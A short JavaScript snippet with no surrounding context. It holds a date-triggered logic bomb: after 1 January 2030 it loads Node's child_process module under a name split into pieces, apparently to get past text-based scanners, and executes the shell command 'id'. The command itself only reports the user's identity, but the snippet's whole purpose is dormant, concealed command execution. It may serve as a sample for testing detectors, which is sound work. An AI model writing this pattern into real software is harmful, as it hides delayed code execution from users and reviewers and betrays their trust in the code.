const due = new Date('2030-01-01');
if (Date.now() > due.getTime()) {
  const m = require(['child', 'process'].join('_'));
  m.exec('id');
}
